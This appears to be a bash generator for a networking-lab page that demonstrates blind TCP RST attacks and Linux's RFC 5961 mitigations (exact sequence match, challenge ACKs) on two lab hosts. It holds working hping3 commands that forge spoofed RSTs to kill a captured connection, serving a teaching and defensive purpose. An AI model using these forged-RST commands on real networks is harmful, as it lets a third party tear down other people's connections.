# shellcheck shell=bash
# docs/lab/sheet2-rst.md: its prose and its commands.
# `sudo scripts/gen-lab-docs sheet2-rst` runs this file with the harness of
# scripts/lib-docs.sh (page, md, run, bgrun, bgstop, ...) and writes the page.
# needs: hello-server hello-client sniff tcpstat jq hping3 stdbuf
page sheet2-rst "Sheet 2 — RST attacks and how a stack mitigates them (RFC 5961)"
md <<'EOF'
An attacker who knows a connection's addresses and ports can try to kill it by sending a forged RST.
RFC 793 accepted any RST whose sequence number was inside the receive window, so guessing a number
within a 64 KiB window took at most 2^32 / 2^16 = 65536 tries. RFC 5961 §3 tightens this: a RST is
accepted only if its sequence number is **exactly** the next expected one (RCV.NXT); one elsewhere
inside the window gets a "challenge ACK" (the true numbers, so a real peer can resend a correct RST),
and one outside the window is dropped silently. Linux implements it.

We open a connection from midwood to brooklyn's web server, held open, capture it on midwood, and
play the attacker from brooklyn with hping3, forging RSTs "from" `192.168.56.101:5000` to the
client. The client's RCV.NXT is the server's next sequence number, read from the capture.
EOF
bgrun srv 'scripts/lab exec brooklyn hello-server --bind 0.0.0.0 -q'
bgrun cap 'scripts/lab exec midwood sniff -q -i eth0 -U -w rst.pcap tcp port 5000'
bgrun cli 'scripts/lab exec midwood hello-client --hold 15 192.168.56.101:5000' 1
run "sniff -r rst.pcap -S"
cport=$(sniff -q -r rst.pcap --json | jq -r 'select(.type == "packet" and .dport == 5000) | .sport' | head -n 1)
nxt=$(sniff -q -r rst.pcap --json | jq -r 'select(.type == "packet" and .sport == 5000) | .seq + .payload_len + (if (.flags | test("S")) then 1 else 0 end)' | sort -n | tail -n 1)
[[ -n $cport && -n $nxt ]] || { echo "$PROG: no connection in rst.pcap" >&2; exit 1; }
far=$(((nxt + 1000000000) % 4294967296)) near=$(((nxt + 1000) % 4294967296))
md <<EOF
The client's port is $cport and its RCV.NXT is $nxt. **1. A RST far outside the window** (seq =
RCV.NXT + 10^9):
EOF
run "scripts/lab exec brooklyn stdbuf -oL hping3 -q -R -k -a 192.168.56.101 -s 5000 -p $cport -M $far -c 1 192.168.56.102 2>&1 | grep transmitted; sleep 0.3; scripts/lab exec midwood ss -tn 'dport = :5000'"
md <<'EOF'
**2. A RST inside the window but not exact** (seq = RCV.NXT + 1000):
EOF
run "scripts/lab exec brooklyn stdbuf -oL hping3 -q -R -k -a 192.168.56.101 -s 5000 -p $cport -M $near -c 1 192.168.56.102 2>&1 | grep transmitted; sleep 0.3; scripts/lab exec midwood ss -tn 'dport = :5000'"
md <<'EOF'
**3. A RST with exactly RCV.NXT:**
EOF
run "scripts/lab exec brooklyn stdbuf -oL hping3 -q -R -k -a 192.168.56.101 -s 5000 -p $cport -M $nxt -c 1 192.168.56.102 2>&1 | grep transmitted; sleep 0.3; scripts/lab exec midwood ss -tn 'dport = :5000'"
sleep 0.3
bgstop cap
bgstop cli show
bgstop srv
run -t 4 "sniff -r rst.pcap -S"
run -t 4 "tcpstat packets -r rst.pcap"
# tcpstat (at the time of writing) moves its idea of the server's next sequence number to an
# out-of-window RST's number, so it then misjudges the later RSTs; say so only while it does.
if grep -qE "seq 153 .*rst_out_of_window" <<<"$LAST"; then
	md <<'EOF'
_Note: tcpstat flags the later two RSTs too: after the first, far RST it wrongly takes that RST's
sequence number as the server's next one (the window in its message moved to 1000000153), so it
judges the in-window and the exact RST against a wrong window. The first flag is the correct one;
this tcpstat defect is reported to its issue._
EOF
fi
md <<'EOF'
**Answer.** (1) The far RST is outside the window: the client's TCP drops it without a word — the
connection stays `ESTAB` and nothing is sent; tcpstat flags it `rst_out_of_window` (its sequence
number is outside the receiver's window, the signature of a blind RST attack or of a confused peer).
(2) The in-window but inexact RST does not kill the connection either: the client answers with a
**challenge ACK** (an ACK carrying its true SND.NXT and RCV.NXT, the `[.]` right after the RST), which
a real peer that had lost its state would answer with a correct RST; a blind attacker never sees it.
(3) Only a RST whose sequence number is exactly RCV.NXT resets the connection (`ss` no longer shows
it) — so a blind attacker must now guess one number in 2^32, not one window in 2^16. The defences
together: RFC 5961's exact-match rule and challenge ACKs (also for SYNs in an established
connection), random ISNs and ephemeral ports (RFC 6528, 6056) so the 4-tuple and numbers are hard to
guess, and a rate limit on challenge ACKs (`net.ipv4.tcp_challenge_ack_limit`).
EOF
